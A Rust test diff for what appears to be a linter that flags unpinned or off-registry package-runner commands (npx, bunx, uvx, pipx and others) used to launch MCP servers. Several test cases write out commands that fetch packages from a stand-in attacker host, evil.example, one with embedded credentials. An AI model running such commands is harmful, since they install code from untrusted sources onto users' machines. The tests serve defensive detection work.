@@ -223,6 +223,13 @@ fn a_package_without_an_exact_version_is_a_finding() {
         &["docker", "run", "mcp/git:v2"],
         &["docker", "run", "mcp/git:8-alpine"],
         &["docker", "run", "mcp/git:canary"],
+        &["bun", "x", "pkg"],
+        &["bun", "--bun", "x", "pkg@latest"],
+        &["bunx", "--bun", "pkg"],
+        &["npx", "https://evil.example/pkg.tgz#0123456789012345678901234567890123456789"],
+        &["uvx", "--from", "https://evil.example/pkg==1.0.0", "tool"],
+        &["uvx", "--with-requirements", "more.txt", "pkg==1.0.0"],
+        &["uv", "run", "--with-requirements=more.txt", "server.py"],
     ];
     for case in loose {
         assert_eq!(words(case), ["unpinned"], "{case:?}");
@@ -244,10 +251,55 @@ fn a_package_without_an_exact_version_is_a_finding() {
         &["uv", "run", "--with", "pkg==1.2.3", "server.py"],
         &["timeout", "30", "npx", "pkg@1.2.3"],
         &["my-server", "--runner", "npx"],
+        &["my-server", "--runner", "bun", "--config", "x"],
+        &["npx", "github:someone/thing#0123456789012345678901234567890123456789"],
+        &["npx", "git+https://a.example/x.git#0123456789012345678901234567890123456789"],
+        &["bunx", "pkg@1.2.3", "--port", "80"],
+        &["npx", "git-thing@1.2.3"],
+        &["npx", "-y", "pkg@1.2.3", "--registry", "what the package makes of it"],
+        &["uvx", "pkg==1.2.3", "--index", "what the package makes of it"],
         &["node", "server.js"],
     ];
     for case in pinned {
         assert_eq!(words(case), [""; 0], "{case:?}");
+    }
+}
+
+#[test]
+fn packages_from_another_place_are_a_finding_whatever_their_version() {
+    let cases: &[&[&str]] = &[
+        &["npx", "--registry", "https://u:hunter2@evil.example", "-y", "pkg@1.2.3"],
+        &["npx", "-y", "--registry=https://evil.example", "pkg@1.2.3"],
+        &["npx", "--regis=https://evil.example", "pkg@1.2.3"],
+        &["npx", "-registry", "https://evil.example", "pkg@1.2.3"],
+        &["npx", "--@acme:registry=https://evil.example", "@acme/pkg@1.2.3"],
+        &["npx", "--userconfig", "./npmrc", "pkg@1.2.3"],
+        &["npm", "--registry", "https://evil.example", "exec", "pkg@1.2.3"],
+        &["npm", "exec", "pkg@1.2.3", "--registry=https://evil.example"],
+        &["pnpm", "dlx", "--registry=https://evil.example", "pkg@1.2.3"],
+        &["bunx", "--registry", "https://evil.example", "pkg@1.2.3"],
+        &["bun", "x", "--registry=https://evil.example", "pkg@1.2.3"],
+        &["uvx", "--index-url", "https://evil.example", "pkg==1.2.3"],
+        &["uvx", "-i", "https://evil.example", "pkg==1.2.3"],
+        &["uvx", "--index", "evil=https://evil.example", "pkg==1.2.3"],
+        &["uvx", "--extra-index-url=https://evil.example", "pkg==1.2.3"],
+        &["uvx", "--default-index", "https://evil.example", "pkg==1.2.3"],
+        &["uvx", "--find-links", "https://evil.example", "pkg==1.2.3"],
+        &["uv", "tool", "run", "--index-url", "https://evil.example", "pkg==1.2.3"],
+        &["uv", "--config-file", "uv.toml", "run", "server.py"],
+        &["uv", "run", "--index", "https://evil.example", "server.py"],
+        &["pipx", "run", "--index-url", "https://evil.example", "pkg==1.2.3"],
+        &["pipx", "run", "--pip-args=--index-url https://evil.example", "pkg==1.2.3"],
+        &["dnx", "--add-source", "https://evil.example", "pkg@1.2.3"],
+        &["timeout", "30", "uvx", "--index", "https://evil.example", "pkg==1.2.3"],
+        &["npx", "-y", "proxy@1.0.0", "--stdio", "npx --registry https://evil.example pkg@1.2.3"],
+    ];
+    for case in cases {
+        let args: Vec<String> = case.iter().skip(1).map(|word| (*word).to_owned()).collect();
+        let found = findings(case[0], &args, &BTreeMap::new());
+        let source = found.iter().find(|one| one.word == "source");
+        let message = &source.unwrap_or_else(|| panic!("{case:?}: {found:?}")).message;
+        assert!(!message.contains("evil"), "{message}");
     }
 }
 
